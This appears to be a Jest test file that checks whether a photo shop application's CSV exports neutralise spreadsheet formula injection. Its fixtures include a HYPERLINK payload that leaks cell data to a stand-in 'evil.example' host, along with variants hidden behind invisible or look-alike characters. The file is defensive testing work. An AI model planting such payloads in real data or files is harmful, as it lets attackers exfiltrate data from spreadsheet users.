import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { csvOf, type ExportCell } from '../../src/domain/csv';
import { labCsv, labList } from '../../src/print/lab-list';
import { closeOffices } from '../support/office';
import { callRpc, openedPage } from '../support/rpc';
import { openShop, PAUL, type Shop } from '../support/shop';

afterAll(closeOffices);

const FORMULA = '=HYPERLINK("http://evil.example/?x="&D2,"click")';
/** What may be in front of a formula, and formulas that look otherwise. */
const FORMULAS = [
  FORMULA,
  '=HYPERLINK("http://evil.example/?x="&D2,\n"click")',
  '@SUM(1)\n+1',
  ...[
    '\n',
    '\r\n',
    '\t',
    ' ',
    '\u00a0',
    '\u3000',
    '\u200b',
    '\ufeff',
    '\u2060',
    '\u202e',
    '\u00ad',
    '\u3164',
    '\u{e0041}',
  ].map((front) => `${front}${FORMULA}`),
  ...['＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'].map((sign) => `${sign}1+1`),
  `x;${FORMULA};x`,
];

/** Cells as a program reads them that knows nothing of ours (RFC 4180). */
const cellsOf = (csv: string): string[] => {
  const text = csv.replace(/^\ufeff/, '');
  const cells: string[] = [];
  let [cell, quoted] = ['', false];
  for (let at = 0; at < text.length; at++) {
    const sign = text.charAt(at);
    if (quoted && sign === '"' && text[at + 1] === '"') cell += text.charAt(++at);
    else if (sign === '"') quoted = !quoted;
    else if (!quoted && (sign === ',' || text.startsWith('\r\n', at))) {
      cells.push(cell);
      cell = '';
      if (sign !== ',') at++;
    } else cell += sign;
  }
  return [...cells, cell];
};

/** Whether a spreadsheet program may take a cell for a formula: by what a reader sees of it, and by OWASP's list. */
const isFormula = (cell: string): boolean => {
  const seen = cell.normalize('NFKC').replace(/[^\p{L}\p{N}\p{P}\p{S}]|\p{Default_Ignorable_Code_Point}/gu, '');
  return (/^[=+\-@−]/u.test(seen) || /^[\t\r]/.test(cell)) && !/^-?\d+(\.\d+)?$/.test(cell.trim());
};

let shop: Shop;

beforeAll(async () => {
  shop = await openShop();
  for (const [at, text] of FORMULAS.entries()) await shop.post({ ...PAUL, orderId: text, email: `nobody ${at}` });
  const texts = FORMULAS.filter((text) => !/[\p{C}\p{Zl}]/u.test(text));
  for (const [at, text] of texts.entries()) {
    const [customerName, street, apartment, city] = [text, text, text, text].map((each) => each.slice(0, 60));
    const items = [{ photoNumber: '-5', qty4x6: 1 }];
    await shop.post({ ...PAUL, orderId: `${text} ${at}`, customerName, street, apartment, city, items });
  }
  await shop.office.edit({ sheet: 'Events', range: 'A2:B2', values: [['ASDAR26', `'${FORMULA}`]] });
});

const page = async (item: string) => {
  await shop.office.menu({ item });
  const token = openedPage(shop.office)?.token ?? '';
  return async (method: string, ...args: readonly unknown[]): Promise<unknown> => {
    const { ok, value, error } = await callRpc(shop.office, 'operator', token, method, ...args);
    if (!ok) throw new Error(error);
    return value;
  };
};

const holdsNoFormula = (csv: string): void => {
  const cells = cellsOf(csv);
  expect(cells.filter(isFormula)).toEqual([]);
  expect(cells.length).toBeGreaterThan(1);
};

test('the check itself knows each of them', () => {
  const bare = FORMULAS.map((text) => `"${text.replace(/"/g, '""')}"`).join(',');
  expect(cellsOf(bare)).toEqual(FORMULAS);
  expect(FORMULAS.filter(isFormula)).toEqual(FORMULAS.slice(0, -1));
});

test('no cell of any tab is a formula in its file, whatever outsiders chose as ids, names and addresses', async () => {
  const call = await page('Data > Export all data');
  const tabs = (await call('export.tabs')) as { name: string; rows: number }[];
  expect(tabs.map(({ name }) => name)).toEqual(expect.arrayContaining(['Orders', 'Rejected', 'Activity', 'Ledger']));
  for (const { name, rows } of tabs)
    holdsNoFormula(csvOf((await call('export.rows', name, 1, rows)) as ExportCell[][]));
});

test('nor in the files of the sales report and its orders', async () => {
  const call = await page('Reports > Sales report');
  const chosen = { period: 'all', event: '', from: '', to: '', grain: 'auto' };
  for (const file of ['report csv', 'orders csv']) {
    const csv = (await call('report.file', chosen, file)) as string;
    holdsNoFormula(csv);
    if (file === 'orders csv') expect(csv).toContain('HYPERLINK');
  }
});

test('nor in the file for the lab', () => {
  const items = [{ photoNumber: '-5', size: '4x6', quantity: 2 }];
  const orders = FORMULAS.map((event) => ({ event, items }));
  holdsNoFormula(labCsv(labList(orders, Object.fromEntries(FORMULAS.map((text) => [text, text])))));
});

test('an id that Rejected keeps has no character that nobody sees', () => {
  const ids = shop.rows('Rejected').map((row) => String(row['Order ID']));
  // Ids that differ in nothing that can be seen are one.
  expect(ids.length).toBeGreaterThan(20);
  expect(ids.filter((id) => /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u3164]|^\s|\s$/u.test(id))).toEqual([]);
});

test('every page that makes a CSV file is tested here', () => {
  const sources = readdirSync('src', { recursive: true, encoding: 'utf8' }).filter((name) => /\.tsx?$/.test(name));
  const makers = sources.filter((name) => /type="text\/csv"/.test(readFileSync(join('src', name), 'utf8')));
  expect(makers.map((name) => name.replaceAll('\\', '/')).sort()).toEqual([
    'print/page/run-panel.tsx',
    'privacy/export/page/export.tsx',
    'reports/page/report.tsx',
    'ui-kit/gallery.tsx',
  ]);
});
